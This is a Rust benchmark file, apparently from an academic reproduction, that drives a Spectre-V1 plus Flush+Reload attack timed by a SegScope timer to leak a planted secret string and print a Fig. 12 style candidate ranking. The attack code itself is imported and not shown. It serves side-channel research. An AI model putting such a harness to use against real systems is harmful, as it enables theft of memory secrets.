//! Fig. 12 — reading arbitrary application memory with Spectre-V1 +
//! Flush+Reload, timed by the SegScope timer.
//!
//! Paper shape: with ~200 amplification gadgets the hit/miss gap grows
//! to thousands of cycles; the candidate byte with the highest tail
//! SegCnt (fastest reload) is the secret, recovered with ~100 % success
//! at ~0.15 B/s.

use scenario::Scenario;
use segscope_attacks::spectre::{SpectreConfig, SpectreScenario, SpectreScenarioConfig};

fn main() {
    segscope_bench::header("Fig. 12: Spectre-V1 + Flush+Reload via the SegScope timer");
    let (secret, attack) = if segscope_bench::full_scale() {
        ("SEGSCOPE".to_owned(), SpectreConfig::paper_default())
    } else {
        ("SEG".to_owned(), SpectreConfig::quick())
    };
    println!(
        "secret: {secret:?}; {} gadget replicas; {} candidates\n",
        attack.gadgets, attack.candidates
    );
    let config = SpectreScenarioConfig { attack, secret };
    let result = SpectreScenario.run_one(&config, 0xF16F);
    let result = result.expect("probe works");

    let recovered: String = result
        .bytes
        .iter()
        .map(|b| {
            let c = b.guessed as char;
            if c.is_ascii_graphic() || c == ' ' {
                c
            } else {
                '?'
            }
        })
        .collect();
    println!(
        "recovered: {recovered:?}  success {}  rate {:.2} B/s (paper: 100%, 0.15 B/s)",
        segscope_bench::pct(result.success_rate),
        result.rate_bps
    );

    // Per-candidate view for the first byte (the figure itself).
    let leak = &result.bytes[0];
    let series = leak.fig12_series(0.0); // tail = -ticks, peak = fastest
    let mut ranked: Vec<(usize, f64)> = series.iter().copied().enumerate().collect();
    ranked.sort_by(|a, b| b.1.partial_cmp(&a.1).expect("finite"));
    println!("\ntop-8 candidates for byte 0 (higher = faster reload = cached):");
    let peak = ranked.first().map(|r| r.1).unwrap_or(1.0);
    for &(v, tail) in ranked.iter().take(8) {
        let c = v as u8 as char;
        let rel = (tail - ranked[7].1) / (peak - ranked[7].1).max(1e-9);
        let bar = "#".repeat((rel.clamp(0.0, 1.0) * 40.0) as usize);
        println!(
            "  {v:>3} ({}) {bar}",
            if c.is_ascii_graphic() { c } else { '.' }
        );
    }
    assert_eq!(leak.guessed, leak.actual, "byte 0 must be recovered");
    assert!(
        result.success_rate >= 2.0 / 3.0,
        "success rate {}",
        result.success_rate
    );
    println!("\nshape check PASSED: the secret byte has the clearest cached signature.");
}
